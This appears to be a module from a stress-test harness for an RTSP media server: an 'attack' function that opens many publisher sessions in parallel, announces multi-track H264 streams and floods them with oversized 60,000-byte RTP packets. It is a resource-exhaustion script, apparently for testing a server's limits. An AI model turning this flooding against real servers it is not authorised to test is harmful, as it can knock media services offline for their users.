/** Publishers whose key frames are as large as they may be, and which nobody watches. */
import { RtspPeer, sessionIdOf } from '../support/rtsp-peer.mjs'
import { attackerAddress, authorityOf, inParallel, sleep, stopped } from './addresses.mjs'

const packetBytes = 60_000

const sdpOf = (tracks) =>
  [
    ...['v=0', 'o=- 0 0 IN IP4 127.0.0.1', 's=large', 't=0 0'],
    ...Array.from({ length: tracks }, (_, n) => [
      ...['m=video 0 RTP/AVP 96', 'a=rtpmap:96 H264/90000', `a=control:streamid=${n}`],
    ]).flat(),
    '',
  ].join('\r\n')

function packetOf(sequenceNumber) {
  const packet = Buffer.alloc(packetBytes)
  packet.set([0x80, 96])
  packet.writeUInt16BE(sequenceNumber & 0xffff, 2)
  packet.writeUInt32BE(1000, 4)
  packet.writeUInt32BE(0x1a46e, 8)
  packet[12] = 0x65
  return packet
}

export async function attack({ host, port, paths, tracks, frameBytes }, stage) {
  const counts = { published: 0, refused: 0, bytes: 0 }
  const publish = async (number) => {
    const url = `rtsp://${authorityOf({ host, port })}/large/${number}`
    try {
      const peer = await RtspPeer.connect({ host, port, localAddress: attackerAddress(number) })
      await peer.expectOk('ANNOUNCE', url, { 'Content-Type': 'application/sdp' }, sdpOf(tracks))
      let session = {}
      for (let track = 0; track < tracks; track++) {
        const Transport = `RTP/AVP/TCP;unicast;interleaved=${2 * track}-${2 * track + 1};mode=record`
        const answer = await peer.expectOk('SETUP', `${url}/streamid=${track}`, {
          ...session,
          Transport,
        })
        session = { Session: sessionIdOf(answer) }
      }
      await peer.expectOk('RECORD', url, session)
      counts.published++
      for (let sent = 0; sent < frameBytes && !stage.signal.aborted; sent += packetBytes) {
        for (let track = 0; track < tracks; track++) {
          peer.sendFrame(2 * track, packetOf(sent / packetBytes))
          counts.bytes += packetBytes
        }
        while (peer.socket.writableLength > 4e6) await sleep(5)
      }
    } catch {
      counts.refused++
    }
  }
  await inParallel(paths, 4, stage.signal, publish)
  stage.standing()
  await stopped(stage.signal)
  return counts
}
